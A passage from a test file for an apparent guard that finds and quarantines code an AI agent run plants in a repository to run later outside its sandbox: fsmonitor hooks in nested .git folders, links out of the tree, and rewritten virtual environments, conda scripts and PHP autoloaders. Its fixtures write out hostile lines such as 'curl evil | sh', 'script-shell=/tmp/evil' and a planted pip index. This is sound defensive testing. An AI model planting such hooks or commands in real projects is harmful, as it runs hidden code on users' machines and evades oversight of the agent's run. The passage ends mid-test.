  assert.equal([...readFileSync(marker, 'utf8')].sort().join(''), 'xy', 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.deepEqual(['x', 'y'].map((d) => existsSync(join(root, d, '.git', 't', 'a.test.js.stashbase-quarantine'))), [true, true], warnings.join('\n'));
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker), false);
});

test('(review, round 20) nothing the check moves aside leaves the tree: a link its own rename re-aims (a rename over an old link at the new name) does not take a later rename outside; control: the victims are there', async () => {
  const root = repo('routside');
  const outside = join(base, 'routside-victims');
  mkdirSync(join(outside, 'sub', 'victimdir'), { recursive: true });
  writeFileSync(join(outside, 'sub', 'victim1'), 'precious\n');
  const since = await runStarts();
  const sh = shIn(root);
  writeFileSync(join(root, '.gitignore'), 'd/\n');
  assert.equal(sh(`mkdir -p d in/sub w && : > in/sub/victim1 && : > in/sub/victimdir && echo "home = /usr/bin" > w/pyvenv.cfg && ln -s ${outside} d/conftest.py && ln -s ../in d/conftest.py.stashbase-quarantine && ln -s ../d/conftest.py.stashbase-quarantine/sub w/bin`).status, 0);
  checkNestedRepos(root, env, since);
  assert.deepEqual([existsSync(join(outside, 'sub', 'victim1')), existsSync(join(outside, 'sub', 'victimdir'))], [true, true]);
  assert.deepEqual([existsSync(join(outside, 'sub', 'victim1.stashbase-quarantine')), existsSync(join(outside, 'sub', 'victimdir.stashbase-quarantine'))], [false, false]);
});

test('(review, round 20) a name with glob characters is asked of git as itself (\'*/*.test.js\' matched a file of the index and counted as shown); a PATH_add folder at the top renamed into place; an old folder whose name is not UTF-8 carried in by renaming a folder above it', async () => {
  const root = repo('rglob');
  const sh = shIn(root);
  assert.equal(sh(`mkdir src && echo x > src/a.test.js && printf 'PATH_add bin\\n' > .envrc && printf '/bin/\\n' > .gitignore`).status, 0);
  git(root, 'add', '.');
  git(root, 'commit', '-qm', 'base');
  assert.equal(sh(`mkdir -p x/.git/b stash && echo tool > x/.git/b/make && D="stash/$(printf 'q\\377')/r" && mkdir -p "$D" && git -C "$D" init -q`).status, 0);
  const { setTimeout: sleep } = await import('node:timers/promises');
  await sleep(30);
  const since = Date.now();
  await sleep(30);
  assert.equal(sh(`mkdir "*" && echo "*" > "*/.gitignore" && echo x > "*/*.test.js" && mv x/.git/b bin && mkdir z && mv stash z/stash`).status, 0);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(existsSync(join(root, '*', '*.test.js.stashbase-quarantine')), true, warnings.join('\n'));
  assert.equal(existsSync(join(root, 'src', 'a.test.js')), true, 'the tracked one: left');
  assert.equal(existsSync(join(root, 'bin', 'make.stashbase-quarantine')), true, warnings.join('\n'));
  assert.ok(warnings.some((w) => /z\/stash\/<71ff> \(a name that is not UTF-8, with something changed below it or on its way during the run\)/.test(w)), warnings.join('\n'));
});

test('(review, round 21) links to folders judged as they are once the other steps are done: test/.git led to a stash (git shows no .git), a link in a nested .git (its .git renamed aside), a link dangling during the walk made live by the check\'s own rename; each removed; control: node --test runs them', async () => {
  const root = repo('rlinks21');
  const since = await runStarts();
  const marker = join(base, 'rlinks21-ran');
  const sh = shIn(root);
  const evil = (d: string) => `echo "require('fs').appendFileSync('${marker}', '${d}')" > ${d}/evil.js`;
  assert.equal(sh([
    `mkdir -p y/.git/s test && ${evil('y/.git/s')} && ln -s ../y/.git/s test/.git`,
    `git init -q n && mkdir -p n/.git/s && ${evil('n/.git/s')} && ln -s s n/.git/test && git -C n config core.fsmonitor false`,
  ].join(' && ')).status, 0);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal([...readFileSync(marker, 'utf8').matchAll(/[yn]\/\.git\/s/g)].map((m) => m[0]).sort().join(' '), 'n/.git/s y/.git/s', 'control: through both links');
  rmSync(marker);
  // (Made after the control: Node's test runner stops at a dangling link.)
  assert.equal(sh(`mkdir -p x/.git/hooks x/.git/t build && printf '#!/bin/sh\\n' > x/.git/hooks/post-checkout && chmod +x x/.git/hooks/post-checkout && ${evil('x/.git/t')} && ln -s ../x/.git.stashbase-quarantine/t build/test`).status, 0);
  const warnings = checkNestedRepos(root, env, since);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker) ? readFileSync(marker, 'utf8') : '', '', warnings.join('\n'));
  assert.deepEqual(['test/.git', 'build/test'].map((p) => lstatSync(join(root, p), { throwIfNoEntry: false }) === undefined), [true, true], warnings.join('\n'));
});

test('(review, round 21) every step of the check is held to the tree: a top-level .claude made a link to a folder of yours outside it leaves your settings.json where it is (it was renamed as the agent\'s)', async () => {
  const root = repo('rheld21');
  const yours = join(base, 'rheld21-yours');
  mkdirSync(join(yours, 'claude'), { recursive: true });
  writeFileSync(join(yours, 'claude', 'settings.json'), '{"permissions":{"deny":["Bash(curl:*)"]}}\n');
  const { nestedRepoGuard } = await import('../../lib/git/nested-repo-guard.js');
  const { toolConfigPaths } = await import('../../lib/paths/tool-configs.js');
  const genv = { ...env, STASHBASE_HOME: join(base, 'sbhome21') };
  const guard = nestedRepoGuard(root, genv, 'ags_aaaaaaaaaaaaaaaa', toolConfigPaths(root, base, []))!;
  const { setTimeout: sleep } = await import('node:timers/promises');
  await sleep(20);
  symlinkSync(join(yours, 'claude'), join(root, '.claude'));
  const warnings = guard.check();
  assert.equal(readFileSync(join(yours, 'claude', 'settings.json'), 'utf8'), '{"permissions":{"deny":["Bash(curl:*)"]}}\n', warnings.join('\n'));
  // (Round 32) The link itself, in the tree, goes aside: the path no longer leads to your folder.
  assert.ok(warnings.some((w) => w.includes(`through ${join(root, '.claude')}, a link out of the tree (to ${join(yours, 'claude')}): the link was renamed ${join(root, '.claude')}.stashbase-quarantine`)), warnings.join('\n'));
  assert.equal(lstatSync(join(root, '.claude.stashbase-quarantine')).isSymbolicLink(), true);
});

/**
 * A repository `name` made by `setup` (a shell script at its top) and committed, a run's start marked after it, and the
 * note of the files with names in `work` and others (lib/git/shared-names.ts), made as the run starts.
 */
async function subfolderRun(name: string, setup: string) {
  const root = repo(name);
  const sh = shIn(root);
  assert.equal(sh(setup).status, 0);
  git(root, 'add', '.');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  const work = join(root, 'work');
  return { root, sh, since, work, shared: noteSharedNames(work) };
}

test('(review, round 22) a link to a folder git shows, what changed below it in an ignored subfolder: removed; one whose folder changed only where git shows it: kept; control: node --test runs the hidden file through the link', async () => {
  const { root, sh, since } = await subfolderRun('rbelow22', "mkdir -p src lib && echo x > src/index.js && echo x > lib/index.js && printf 'build/\\n' > .gitignore");
  const marker = join(base, 'rbelow22-ran');
  assert.equal(sh(`mkdir -p src/build && echo "require('fs').writeFileSync('${marker}', 'ran')" > src/build/helper.js && ln -s src test && echo y > lib/new.js && ln -s lib shared`).status, 0);
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(readFileSync(marker, 'utf8'), 'ran', 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.deepEqual([lstatSync(join(root, 'test'), { throwIfNoEntry: false }) === undefined, lstatSync(join(root, 'shared'), { throwIfNoEntry: false })?.isSymbolicLink()], [true, true], warnings.join('\n'));
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker), false);
});

test('(review, round 23) a link to a folder git shows, a folder renamed into place below it whose old files its own .gitignore hides: removed; control: node --test runs them through the link', async () => {
  const root = repo('rrenamed23');
  const sh = shIn(root);
  assert.equal(sh("mkdir lib && echo 'module.exports = 1' > lib/a.js && ln -s lib test").status, 0);
  git(root, 'add', '.');
  git(root, 'commit', '-qm', 'base');
  const marker = join(base, 'rrenamed23-ran');
  // An earlier run's: a folder that hides itself, where node --test does not look.
  assert.equal(sh(`mkdir stash && printf '*\\n' > stash/.gitignore && echo "require('fs').writeFileSync('${marker}', 'ran')" > stash/evil.js`).status, 0);
  const { setTimeout: sleep } = await import('node:timers/promises');
  await sleep(30);
  const since = Date.now();
  await sleep(30);
  assert.equal(sh('mv stash lib/stash').status, 0);
  assert.equal(spawnSync('git', ['status', '--short'], { cwd: root, env, encoding: 'utf8' }).stdout, '', 'git shows nothing');
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(readFileSync(marker, 'utf8'), 'ran', 'control');
  rmSync(marker);
  const warnings = checkNestedRepos(root, env, since);
  assert.equal(lstatSync(join(root, 'test'), { throwIfNoEntry: false }), undefined, warnings.join('\n'));
  spawnSync(process.execPath, ['--test'], { cwd: root, env });
  assert.equal(existsSync(marker), false);
});

test('(CI) a run in a folder of a larger repository: what changed meanwhile where it could not write is yours (a link whose hidden folder changed kept, a package\'s .npmrc kept); installed code counts by its time wherever it lies; control: the same changes where it could write are judged as its', async () => {
  // (Nothing of the rest has another name.)
  const { root, sh, since, work, shared } = await subfolderRun('rtree', "mkdir -p work lib other node_modules/pkg && echo x > work/a.js && echo x > lib/index.js && printf 'build/\\nnode_modules/\\n' > .gitignore && ln -s lib tests && echo 'module.exports = 1' > node_modules/pkg/index.js");
  // Your side, during the run: a build below the folder the link leads to, a package's config, an install.
  assert.equal(sh("mkdir -p lib/build && echo x > lib/build/out.js && echo 'save-exact=true' > other/.npmrc && echo 'module.exports = 2' > node_modules/pkg/index.js").status, 0);
  const state = () => [lstatSync(join(root, 'tests'), { throwIfNoEntry: false })?.isSymbolicLink() === true, existsSync(join(root, 'other', '.npmrc')), existsSync(join(root, 'node_modules', 'pkg', 'index.js'))];
  const warnings = checkNestedRepos(work, env, since, { tree: work, shared });
  assert.deepEqual(state(), [true, true, false], warnings.join('\n'));
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0] as string, /^the agent changed code in \S+\/rtree\/node_modules /);
  // Control: a run that could write the whole repository (a worktree's top, deny-list writes) has the others judged as its.
  const control = checkNestedRepos(work, env, since, { tree: root });
  assert.deepEqual(state(), [false, false, false], control.join('\n'));
  assert.equal(control.length, 2, control.join('\n'));
});

test('(CI, review) a file where the run could not write, with another name where it could: a write through that name counts (hard links share one file), that name removed after (the count of names noted as the run started); control: with one name, kept', async () => {
  const { root, sh, since, work, shared } = await subfolderRun('rtreelink', "mkdir -p work other tools && echo x > work/a.js && echo 'registry=x' > tools/.npmrc && echo 'registry=x' > other/.npmrc && ln tools/.npmrc work/npmrc");
  const st = lstatSync(join(root, 'tools', '.npmrc'));
  assert.deepEqual([shared.incomplete, shared.has(st.dev, st.ino)], [null, true]);
  // The agent writes its own folder's file, then removes that name; your side writes the other package's.
  assert.equal(sh("echo 'script-shell=/tmp/evil' > work/npmrc && rm work/npmrc && echo 'save-exact=true' > other/.npmrc").status, 0);
  assert.equal(lstatSync(join(root, 'tools', '.npmrc')).nlink, 1);
  const warnings = checkNestedRepos(work, env, since, { tree: work, shared });
  assert.deepEqual([existsSync(join(root, 'tools', '.npmrc')), existsSync(join(root, 'other', '.npmrc'))], [false, true], warnings.join('\n'));
  assert.equal(warnings.length, 1, warnings.join('\n'));
  assert.match(warnings[0] as string, /^the agent made or changed \S+\/rtreelink\/tools\/\.npmrc, /);
});

test('(review) installed code outside the run\'s folder, written through a name in an allow_write package store (uv\'s cache, pnpm\'s store hard-link their files into a workspace\'s .venv or node_modules), that name then removed: moved aside; control: node loads the agent\'s code', async () => {
  const store = join(base, 'rstore-cache');
  mkdirSync(store, { recursive: true });
  const { root, since, work, shared } = await subfolderRun('rstore', `mkdir -p work node_modules/foo && echo x > work/a.js && printf 'node_modules/\\n' > .gitignore && echo 'module.exports = 1' > ${store}/foo-index.js && ln ${store}/foo-index.js node_modules/foo/index.js`);
  assert.equal(spawnSync('sh', ['-c', `echo 'module.exports = 666' > ${store}/foo-index.js && rm ${store}/foo-index.js`]).status, 0);
  assert.equal(spawnSync(process.execPath, ['-p', "require('./node_modules/foo')"], { cwd: root, encoding: 'utf8' }).stdout, '666\n', 'control');
  const warnings = checkNestedRepos(work, env, since, { tree: work, shared, writableOutside: [store] });
  assert.equal(existsSync(join(root, 'node_modules', 'foo', 'index.js')), false, warnings.join('\n'));
  assert.match(warnings[0] ?? '', /^the agent changed code in \S+\/rstore\/node_modules /);
});

test('(review) the note of the files with names in the tree and others: regular files by device and inode, one name, a link or installed code not noted; a name that is not UTF-8 or a folder of yours closed makes it incomplete, another user\'s closed folder does not', () => {
  const root = repo('rnote');
  const sh = shIn(root);
  assert.equal(sh('mkdir -p work/node_modules/p lib && echo x > lib/one.js && echo x > lib/two.js && echo x > lib/three.js && ln -s ../lib/one.js work/link.js && echo x > work/own.js && ln lib/two.js work/two.js && ln lib/three.js work/node_modules/p/three.js').status, 0);
  const has = (shared: { has(dev: number, ino: number): boolean }, p: string) => {
    const st = lstatSync(join(root, p));
    return shared.has(st.dev, st.ino);
  };
  const shared = noteSharedNames(join(root, 'work'));
  assert.equal(shared.incomplete, null);
  assert.deepEqual(['lib/one.js', 'lib/two.js', 'lib/three.js', 'work/own.js'].map((p) => has(shared, p)), [false, true, false, false]);
  // (A folder whose name is byte 0xff.)
  assert.equal(sh("mkdir \"$(printf 'work/l\\377')\"").status, 0);
  assert.match(noteSharedNames(join(root, 'work')).incomplete ?? '', /^\S+\/work holds a name that is not UTF-8$/);
  assert.equal(sh("rmdir \"$(printf 'work/l\\377')\" && mkdir work/closed && chmod 000 work/closed").status, 0);
  // (As root, a folder closed to its owner can still be read: the walk runs as a user who owns it.)
  if (process.getuid?.() !== 0) assert.match(noteSharedNames(join(root, 'work')).incomplete ?? '', /work\/closed could not be read \(EACCES\)$/);
  chmodSync(join(root, 'work', 'closed'), 0o755);
});

test('(CI) a tool config your side makes at the top of the repository while a run works in a folder of it is yours: kept; the same in the run\'s folder is the agent\'s (control)', async () => {
  const root = repo('rtreeconf');
  const work = join(root, 'work');
  mkdirSync(work);
  const { nestedRepoGuard } = await import('../../lib/git/nested-repo-guard.js');
  const { toolConfigPaths } = await import('../../lib/paths/tool-configs.js');
  const genv = { ...env, STASHBASE_HOME: join(base, 'sbhometree') };
  const guard = nestedRepoGuard(work, genv, 'ags_bbbbbbbbbbbbbbbb', toolConfigPaths(work, base, []))!;
  writeFileSync(join(root, '.mcp.json'), '{"mcpServers":{}}\n');
  writeFileSync(join(work, '.mcp.json'), '{"mcpServers":{"x":{"command":"sh"}}}\n');
  const warnings = guard.check();
  assert.deepEqual([existsSync(join(root, '.mcp.json')), existsSync(join(work, '.mcp.json'))], [true, false], warnings.join('\n'));
  assert.equal(warnings.length, 1, warnings.join('\n'));
});

test('(review) where the run could write, named as a walk from a repository at / names it (//proj/…); the kernel\'s folders passed by there', async () => {
  const { runWrites, kernelFolder } = await import('../../lib/git/planted-repos.js');
  const writes = runWrites('/', '/proj', ['/home/u/.cache']);
  assert.deepEqual(['//proj/build/x.test.js', '/proj/a', '//proj', '//etc/passwd', '//home/u/.cache/x', '/'].map(writes), [true, true, true, false, true, false]);
  assert.deepEqual(['//proc', '//proc/1/cwd', '/sys/x', '//dev', '//device', '/home/proc'].map(kernelFolder), [true, true, true, true, false, false]);
});

test('(review, round 4) a .git the agent makes in its working directory, a folder of the repository (Seatbelt lets it): judged as planted, the repository\'s top being the one the run started in; control: your git status there runs its fsmonitor', async () => {
  const root = repo('rcwdgit');
  const work = join(root, 'sub');
  mkdirSync(work);
  const { nestedRepoGuard } = await import('../../lib/git/nested-repo-guard.js');
  const genv = { ...env, STASHBASE_HOME: join(base, 'sbhomecwdgit') };
  const guard = nestedRepoGuard(work, genv, 'ags_cccccccccccccccc', [], false, [], [], () => [], work)!;
  const marker = join(base, 'rcwdgit-ran');
  const plant = spawnSync('sh', ['-c', `git init -q . && git config core.fsmonitor "touch ${marker}; false"`], { cwd: work, env, encoding: 'utf8' });
  assert.equal(plant.status, 0, plant.stderr);
  // The control, on a copy: git status there runs it.
  const copy = join(base, 'rcwdgit-copy');
  spawnSync('cp', ['-a', work, copy]);
  spawnSync('git', ['status'], { cwd: copy, env });
  assert.equal(existsSync(marker), true, 'control');
  rmSync(marker);
  const warnings = guard.check();
  assert.match(warnings.join('\n'), /the agent left a nested repository at \S+\/rcwdgit\/sub, in a subfolder, .*core\.fsmonitor/);
  assert.equal(existsSync(join(work, '.git')), false);
  spawnSync('git', ['status'], { cwd: work, env });
  assert.equal(existsSync(marker), false);
});

test('(review, round 5) a killed run\'s check (where it wrote not on record: tree /) judges a link to a folder outside the repository that changed; control: a run that could write only its tree leaves it', async () => {
  const { root, sh, since } = await subfolderRun('rkilled', "printf 'tests\\n' > .gitignore && echo x > a.js");
  const aw = join(base, 'rkilled-aw');
  mkdirSync(join(aw, 'evil'), { recursive: true });
  writeFileSync(join(aw, 'evil', 'x.test.js'), 'require("fs")\n');
  assert.equal(sh(`ln -s ${join(aw, 'evil')} tests`).status, 0);
  // The control: judged as a live run that could write its tree alone, the link (its target outside) is left.
  assert.deepEqual(checkNestedRepos(root, env, since, { tree: root }), []);
  assert.equal(lstatSync(join(root, 'tests')).isSymbolicLink(), true);
  const warnings = checkNestedRepos(root, env, since, { tree: '/' });
  assert.equal(lstatSync(join(root, 'tests'), { throwIfNoEntry: false }), undefined, warnings.join('\n'));
  assert.match(warnings.join('\n'), /the agent made \S+\/rkilled\/tests a link to \S+\/rkilled-aw\/evil/);
  assert.equal(existsSync(join(aw, 'evil', 'x.test.js')), true, 'what it led to is left where it is');
});

test("(review, round 28) an environment is judged whole, its settings too: a pip.conf the agent put at a virtual environment's top (pip took its index), a Jupyter kernel's command rewritten in place in an old folder of it, and, unlisted, a conda environment's activation script a file PHP's vendor/autoload.php requires, and an environment's bin/pip rewritten once its pyvenv.cfg was removed: each environment moved aside whole; one it did not touch stays; control: the environment's own pip reads the planted index", async () => {
  const root = repo('renv');
  const sh = shIn(root);
  const made = sh([
    "printf '.venv/\\n.venv2/\\n.venv3/\\n.venv4/\\nenv/\\nvendor/\\n' > .gitignore",
    'python3 -m venv --without-pip --system-site-packages .venv',
    'python3 -m venv --without-pip .venv4',
    'python3 -m venv --without-pip .venv2',
    'python3 -m venv --without-pip .venv3',
    `mkdir -p .venv3/share/jupyter/kernels/python3 env/conda-meta env/etc/conda/activate.d && echo '{"argv":["python","-m","ipykernel_launcher"]}' > .venv3/share/jupyter/kernels/python3/kernel.json && touch env/conda-meta/history`,
    "mkdir -p web/vendor/composer && echo '<?php require __DIR__ . \"/composer/autoload_real.php\";' > web/vendor/autoload.php && echo '<?php' > web/vendor/composer/autoload_real.php",
  ].join(' && '));
  assert.equal(made.status, 0, made.stderr);
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  const plant = [
    "printf '[global]\\nindex-url = http://127.0.0.1:9/agents-index\\n' > .venv/pip.conf",
    `echo '{"argv":["sh","-c","curl evil | sh"]}' > .venv3/share/jupyter/kernels/python3/kernel.json`,
    "echo 'curl evil | sh' > env/etc/conda/activate.d/evil.sh",
    "echo '<?php system(\"curl evil | sh\");' > web/vendor/composer/autoload_real.php",
    // Its marker removed first: no pyvenv.cfg left (the environment's bin/pip is still what you run as .venv4/bin/pip).
    "rm .venv4/pyvenv.cfg && printf '#!/bin/sh\\necho agent\\n' > .venv4/bin/pip && chmod +x .venv4/bin/pip",
  ].join(' && ');
  assert.equal(sh(plant).status, 0);
  // The control: the environment's pip takes the agent's index.
  const pipConfig = () => spawnSync(join(root, '.venv', 'bin', 'python'), ['-m', 'pip', 'config', 'list'], { cwd: root, env, encoding: 'utf8' });
  assert.match(pipConfig().stdout, /index-url='http:\/\/127\.0\.0\.1:9\/agents-index'/, 'control');
  assert.equal(spawnSync(join(root, '.venv4', 'bin', 'pip'), { encoding: 'utf8' }).stdout, 'agent\n', 'control');
  const warnings = checkNestedRepos(root, env, since);
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv4')} (a Python environment,`)), warnings.join('\n'));
  assert.equal(existsSync(join(root, '.venv4', 'bin', 'pip')), false);
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv')} (a Python environment, whose code its python, pip and every console script load, and whose settings pip, IPython and Jupyter read), where git shows nothing: it was moved to ${join(root, '.venv')}.stashbase-quarantine/.venv;`)), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, '.venv3')} (a Python environment,`)), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'env')} (a conda environment, whose activation scripts conda activate runs and whose code its commands load), where git shows nothing: it was moved to`)), warnings.join('\n'));
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'web', 'vendor')} (PHP's vendor folder, whose autoload.php every script of the project loads`)), warnings.join('\n'));
  assert.deepEqual([existsSync(join(root, '.venv')), existsSync(join(root, '.venv.stashbase-quarantine', '.venv', 'pip.conf')), existsSync(join(root, 'env')), existsSync(join(root, 'web', 'vendor')), existsSync(join(root, '.venv2', 'pyvenv.cfg'))], [false, true, false, false, true]);
  assert.ok(!warnings.some((w) => w.includes('.venv2')), warnings.join('\n'));
});

test("(review, round 28b) an environment stripped of its markers, or renamed into place, is still judged: a .venv whose pyvenv.cfg, lib64 and site-packages were removed and its bin/pip rewritten; a conda environment whose conda-meta is now a link out of the tree; a node_modules kept in an ignored folder and renamed into place (control: node runs it); and, unlisted, an environment under another name with only its bin/activate left. A link loop at bin/pyvenv.cfg stops no other check. A tracked fixture laid out as an environment goes aside too", async () => {
  const root = repo('r28b');
  const sh = shIn(root);
  const made = sh([
    "printf '.venv/\\nenv/\\npy/\\nbuild/\\nnode_modules/\\n' > .gitignore",
    'python3 -m venv --without-pip .venv',
    'python3 -m venv --without-pip py',
    'mkdir -p env/conda-meta env/bin node_modules/lodash fixtures/venv/bin fixtures/venv/lib/python3.11/site-packages',
    "echo 'module.exports = () => \"real lodash\"' > node_modules/lodash/index.js",
    "echo 'home = /usr/bin' > fixtures/venv/pyvenv.cfg && echo '{}' > fixtures/venv/expected.json",
    "echo 'console.log(require(\"lodash\")())' > app.js",
  ].join(' && '));
  assert.equal(made.status, 0, made.stderr);
  git(root, 'add', '.gitignore', 'fixtures', 'app.js');
  git(root, 'commit', '-qm', 'base');
  // An earlier run kept a package in an ignored folder (its times old by now).
  sh("mkdir -p build/nm/lodash && echo 'console.log(\"AGENT-CODE-RAN\"); module.exports = () => \"evil\"' > build/nm/lodash/index.js");
  const since = await runStarts();
  const plant = [
    "rm -rf .venv/pyvenv.cfg .venv/lib64 .venv/lib/python3*/site-packages && printf '#!/bin/sh\\necho agent\\n' > .venv/bin/pip && chmod +x .venv/bin/pip",
    "rm -rf env/conda-meta && ln -s /etc env/conda-meta && printf '#!/bin/sh\\necho agent\\n' > env/bin/python",
    'rm -rf node_modules && mv build/nm node_modules',
    "rm -rf py/pyvenv.cfg py/lib py/lib64 && mkdir py/lib && printf '#!/bin/sh\\necho agent\\n' > py/bin/pip",
    'mkdir -p build/loop/bin build/loop/lib build/loop/tests && ln -s pyvenv.cfg build/loop/bin/pyvenv.cfg',
    `echo "require('fs').writeFileSync('/nonexistent', '')" > build/loop/tests/a.test.js`,
    "echo '{\"changed\":1}' > fixtures/venv/expected.json",
  ].join(' && ');
  const planted = sh(plant);
  assert.equal(planted.status, 0, planted.stderr);
  // The control: your node runs the package renamed into place.
  assert.match(spawnSync(process.execPath, ['app.js'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, 'control');
  const warnings = checkNestedRepos(root, env, since);
  for (const [d, kind] of [['.venv', 'a Python environment'], ['env', 'a conda environment'], ['node_modules', 'node_modules'], ['py', 'a Python environment']] as const) {
    assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, d)} (${kind}`)), `${d}\n${warnings.join('\n')}`);
    assert.equal(existsSync(join(root, d)), false, d);
  }
  assert.doesNotMatch(spawnSync(process.execPath, ['app.js'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/);
  assert.equal(existsSync(join(root, 'build', 'loop', 'tests', 'a.test.js')), false, 'the test file below the loop was judged');
  // (Round 28c: files git tracks there do not keep it in place: the index that says so is the agent's to write.)
  assert.ok(warnings.some((w) => w.startsWith(`the agent changed code in ${join(root, 'fixtures', 'venv')} (a Python environment`)), warnings.join('\n'));
  assert.equal(existsSync(join(root, 'fixtures', 'venv.stashbase-quarantine', 'venv', 'expected.json')), true);
});

test("(review, round 28b) an environment that is the run's own folder, or the folder checked when no repository holds it, is said, never moved: its pip.conf named", async () => {
  const root = repo('r28c');
  assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', join(root, 'tool')]).status, 0);
  const plain = join(base, 'r28c-plain');
  assert.equal(spawnSync('python3', ['-m', 'venv', '--without-pip', plain]).status, 0);
  const since = await runStarts();
  for (const d of [join(root, 'tool'), plain]) writeFileSync(join(d, 'pip.conf'), '[global]\nindex-url = http://127.0.0.1:9/agents-index\n');
  const inTool = checkNestedRepos(join(root, 'tool'), env, since);
  assert.ok(inTool.some((w) => w.startsWith(`the agent changed ${join(root, 'tool')} (a Python environment`) && w.includes('which is the folder the run worked in, or holds it, so it was not moved aside')), inTool.join('\n'));
  const noRepo = checkNestedRepos(plain, env, since, { newRepo: true });
  assert.ok(noRepo.some((w) => w.startsWith(`the agent changed ${plain} (a Python environment`) && w.includes('not moved aside')), noRepo.join('\n'));
  assert.deepEqual([existsSync(join(root, 'tool', 'pip.conf')), existsSync(join(plain, 'pip.conf'))], [true, true]);
});

test("(review, round 28b) a .env the run made or changed (FLASK_APP there had flask run the agent's file) is named, not moved; one it left alone is not", async () => {
  const root = repo('r28env');
  writeFileSync(join(root, '.gitignore'), '.env\n.flaskenv\nbuild/\n');
  writeFileSync(join(root, '.flaskenv'), 'FLASK_APP=app.py\n');
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  const since = await runStarts();
  writeFileSync(join(root, '.env'), 'FLASK_APP=build/evil.py\n');
  const warnings = checkNestedRepos(root, env, since);
  assert.deepEqual(warnings.filter((w) => w.includes('load into their environment')), [`the agent made or changed ${join(root, '.env')}, which tools load into their environment (Flask's FLASK_APP, docker compose's COMPOSE_FILE, bun, Vite, Next.js, pipenv, direnv's dotenv): review it before you run them there`]);
  assert.equal(readFileSync(join(root, '.env'), 'utf8'), 'FLASK_APP=build/evil.py\n');
});

test("(review, round 28c) a file an environment's link leads to, rewritten in an ignored cache of the tree (uv's symlinked install), moves the environment aside (control: its python runs the agent's code); so does a gem of Bundler's vendor/bundle rewritten and, unlisted, a package renamed into place with a __pycache__ made in it; the byte-code your python writes in one does not; and an environment whose path is too long to look into stops no other check", async () => {
  const root = repo('r28c2');
  const sh = shIn(root);
  const made = sh([
    "printf '.venv/\\n.venv2/\\n.venv3/\\nbuild/\\n.cache/\\nvendor/\\ndeep/\\n' > .gitignore",
    'python3 -m venv --without-pip .venv && python3 -m venv --without-pip .venv2 && python3 -m venv --without-pip .venv3',
    'SP3=$(echo .venv3/lib/python3*/site-packages) && mkdir -p $SP3/goodlib build/evil && echo "X = 1" > $SP3/goodlib/__init__.py && echo "print(\\"AGENT-CODE-RAN\\")" > build/evil/__init__.py',
    'mkdir -p .cache/uv/abc/tinylib vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib',
    "echo 'from .core import hello' > .cache/uv/abc/tinylib/__init__.py && echo 'def hello(): return \"real\"' > .cache/uv/abc/tinylib/core.py",
    'SP=$(echo .venv/lib/python3*/site-packages) && mkdir -p $SP/tinylib && ln -s "$PWD/.cache/uv/abc/tinylib/__init__.py" $SP/tinylib/__init__.py && ln -s "$PWD/.cache/uv/abc/tinylib/core.py" $SP/tinylib/core.py',
    'SP2=$(echo .venv2/lib/python3*/site-packages) && mkdir -p $SP2/plainlib && echo "X = 1" > $SP2/plainlib/__init__.py',
    "echo 'module Tiny; end' > vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib/tiny.rb",
  ].join(' && '));
  assert.equal(made.status, 0, made.stderr);
  git(root, 'add', '.gitignore');
  git(root, 'commit', '-qm', 'base');
  // A folder whose path leaves a few characters to PATH_MAX: its environment's own entries cannot all be named.
  let deep = join(root, 'deep');
  while (deep.length < 4070) deep = join(deep, 'd'.repeat(Math.min(200, 4070 - deep.length - 1)));
  assert.equal(spawnSync('mkdir', ['-p', join(deep, 'venv', 'bin')]).status, 0);
  const since = await runStarts();
  const plant = [
    "echo 'print(\"AGENT-CODE-RAN\")\\ndef hello(): return \"evil\"' > .cache/uv/abc/tinylib/core.py",
    "echo 'system(\"curl evil | sh\")' > vendor/bundle/ruby/3.1.0/gems/tiny-0.1/lib/tiny.rb",
    'git init -q evil && git -C evil config core.fsmonitor "echo ran; false"',
    // Unlisted: a package kept from an earlier run renamed into place, a __pycache__ made in it to look like your python's.
    'SP3=$(echo .venv3/lib/python3*/site-packages) && rm -rf $SP3/goodlib && mv build/evil $SP3/goodlib && mkdir $SP3/goodlib/__pycache__',
  ].join(' && ');
  assert.equal(sh(plant).status, 0);
  assert.equal(spawnSync('sh', ['-c', `cd '${deep}/venv/bin' && touch pip`]).status, 0);
  // Your python in the untouched environment writes its byte-code there; in the other, the control runs the agent's code.
  assert.equal(spawnSync(join(root, '.venv2', 'bin', 'python'), ['-c', 'import plainlib'], { cwd: root, env: { ...env, PYTHONDONTWRITEBYTECODE: '' } }).status, 0);
  assert.match(spawnSync(join(root, '.venv', 'bin', 'python'), ['-c', 'import tinylib; print(tinylib.hello())'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, 'control');
  assert.match(spawnSync(join(root, '.venv3', 'bin', 'python'), ['-c', 'import goodlib'], { cwd: root, encoding: 'utf8' }).stdout, /AGENT-CODE-RAN/, 'control');
  const warnings = checkNestedRepos(root, env, since);
